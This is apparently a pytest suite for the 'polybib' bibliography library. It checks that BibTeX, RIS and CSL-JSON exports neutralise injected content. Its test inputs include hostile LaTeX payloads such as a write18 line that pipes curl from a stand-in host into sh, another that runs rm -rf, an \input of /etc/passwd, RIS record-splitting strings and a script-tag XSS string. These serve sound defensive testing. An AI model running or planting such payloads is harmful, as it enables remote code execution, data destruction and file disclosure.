"""Safe outputs: no user text can inject a LaTeX command or unbalance braces in a .bib, nor break a
RIS record or the CSL-JSON document; what is written reads back as the same values."""

from __future__ import annotations

import json
import re

import bibtexparser
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import polybib
from polybib import Person, Reference
from polybib._export import render
from polybib._io._bibtex_in import decode_latex

HOSTILE = [
    r"\input{/etc/passwd}",
    r"\write18{rm -rf ~}",
    r"\immediate\write18{curl evil.invalid | sh}",
    "Title with a lone } brace",
    "Title with a lone { brace",
    "100% sure % a comment",
    "ends with a backslash \\",
    r"\def\x{y}\x \catcode`\@=11 ^^5cinput",
    "$x^2$ & #1 _ ~ \\\\ \\",
    "}} @book{evil, title={x}} {",
    "\\end{document}",
]
# What an escaped value may hold after a backslash: only polybib's own escapes.
_OWN_ESCAPES = re.compile(r"\\textbackslash\{\}|\\[~^]\{\}|\\[{}&%$#_]")


def _entry_values(text: str) -> list[dict[str, str]]:
    library = bibtexparser.parse_string(text, parse_stack=[])
    assert not library.failed_blocks, text
    return [{f.key: str(f.value) for f in entry.fields} for entry in library.entries]


def _no_live_command(value: str) -> bool:
    return "\\" not in _OWN_ESCAPES.sub("", value)


def _braces_balance(value: str) -> bool:
    depth = 0
    for char in re.sub(r"\\[{}]", "", value):
        depth += {"{": 1, "}": -1}.get(char, 0)
        if depth < 0:
            return False
    return depth == 0


def _hostile_reference(text: str) -> Reference:
    return Reference(entry_type="book", title=text, subtitle=text, genre=text, series=text, note=[text],
                     authors=[Person(family=text, given=text), Person(corporate=text)], places=[text],
                     publishers=[text], pages=text, edition=text, organizations=[text])


@pytest.mark.parametrize("fmt", ["biblatex", "bibtex"])
@pytest.mark.parametrize("text", HOSTILE)
def test_bib_values_are_inert_and_read_back(fmt, text):
    written = polybib.to_biblatex([_hostile_reference(text)]) if fmt == "biblatex" else \
        polybib.to_bibtex([_hostile_reference(text)])
    [values] = _entry_values(written)
    for name, value in values.items():
        assert _no_live_command(value), (name, value)
        assert _braces_balance(value[1:-1]), (name, value)
    title = decode_latex(values["title"][1:-1])
    assert title == (" ".join(text.split()) if fmt == "biblatex" else " ".join(f"{text}: {text}".split()))
    [back] = polybib.read_bibtex(written)
    assert back.publishers == [" ".join(text.split())]


@pytest.mark.parametrize("text", HOSTILE)
def test_parsed_hostile_reference_writes_an_inert_bib(text):
    ref = polybib.parse_reference(f"Иванов И. И. {text}. – М. : Наука, 2019. – 512 с. – {text}")
    for value in _entry_values(polybib.to_biblatex([ref]))[0].values():
        assert _no_live_command(value) and _braces_balance(value[1:-1]), value


@pytest.mark.parametrize("url", [
    "http://example.org/a}b",
    "http://example.org/}\\write18{rm}",
    "http://example.org/{\\input{/etc/passwd}",
    "https://example.org/100%25\\",
])
def test_urls_and_dois_cannot_break_out_of_their_field(url):
    ref = Reference(entry_type="online", title="T", url=url, doi="10.1000/" + url.rsplit("/", 1)[-1])
    written = polybib.to_biblatex([ref])
    [values] = _entry_values(written)
    for name in ("url", "doi"):
        assert "\\" not in values[name] and _braces_balance(values[name][1:-1]), (name, values[name])
    assert "\\" not in written


def test_a_blank_title_still_gets_a_key():
    # found by the round-trip property: a title of white space only made the key maker raise
    assert polybib.to_biblatex([Reference(entry_type="book", title="\n")]).startswith("@book{refnd,")


_SPECIALS = st.lists(st.sampled_from(list("\\{}%$&#_^~ ab@,=\"'\n\t") + ["write18", "input"]), max_size=30) \
    .map("".join)


@settings(max_examples=200, deadline=None)
@given(_SPECIALS)
def test_any_title_round_trips_through_biblatex(text):
    ref = Reference(entry_type="book", title=text, publishers=[text])
    written = polybib.to_biblatex([ref])
    [values] = _entry_values(written)
    for value in values.values():
        assert _no_live_command(value) and _braces_balance(value[1:-1]), value
    if text.strip():
        assert decode_latex(values["title"][1:-1]) == " ".join(text.split())


@pytest.mark.parametrize("text", HOSTILE + ["line\nER  - \nTY  - JOUR", "a\r\nTI  - injected"])
def test_ris_records_cannot_be_split_or_injected(text):
    ref = _hostile_reference(text)
    ref.subtitle = ""
    written = polybib.to_ris([ref])
    tags = [line[:6] for line in written.splitlines()]
    assert tags.count("TY  - ") == 1 and tags.count("ER  - ") == 1 and len(polybib.read_ris(written)) == 1
    [back] = polybib.read_ris(written)
    assert back.title.split() == text.split()


@pytest.mark.parametrize("text", HOSTILE + ["</script><script>alert(1)</script>", "\u2028\u2029\x00"])
def test_csl_json_is_valid_json_holding_the_text(text):
    items = polybib.to_csl_json([_hostile_reference(text)])
    written = json.dumps(items, ensure_ascii=False)
    assert json.loads(written) == items and text in items[0]["title"]
    rendered = render([_hostile_reference(text)], "csl-json")
    assert json.loads(rendered)[0]["title"] == items[0]["title"]
